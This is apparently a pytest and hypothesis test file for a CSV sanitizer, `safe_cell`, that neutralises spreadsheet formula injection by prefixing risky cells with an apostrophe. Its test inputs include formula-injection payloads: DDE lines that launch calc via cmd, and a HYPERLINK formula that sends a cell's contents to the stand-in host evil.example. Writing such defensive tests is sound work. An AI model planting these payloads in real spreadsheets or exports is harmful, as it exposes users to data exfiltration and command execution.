"""No text in a csv that a spreadsheet opens is a formula there; numbers and other texts stay as they are."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from llmops.feedback.cells import safe_cell


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "|calc", "%0A=1", "\t=1", "\r=1", "\n=1"),
        *('=HYPERLINK("http://evil.example?x="&A1,"ok")', "=cmd|' /C calc'!A0", "  =1+1", "\u00a0=1", "\ufeff=1"),
        *("＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=", "-", "+1-1", "-1e5x", "- text of a list"),
    ],
)
def test_a_formula_becomes_a_text(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value", ["", " ", "text", "a=1", "-3", "+4.5", "-1e-05", "5%", "'=1", "日本", 3, -3, 2.5, None, True]
)
def test_everything_else_stays(value: object) -> None:
    assert safe_cell(value) is value


@given(st.text(max_size=30))
def test_what_a_spreadsheet_reads_back_never_begins_as_a_formula(text: str) -> None:
    file = io.StringIO()
    csv.writer(file).writerow([safe_cell(text), "next"])
    cell = next(csv.reader(io.StringIO(file.getvalue(), newline="")))[0]
    assert cell in (text, f"'{text}")
    try:
        float(cell)
    except ValueError:
        assert not cell.lstrip(" \u00a0\u200b\ufeff\v\f").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "|", "%"))
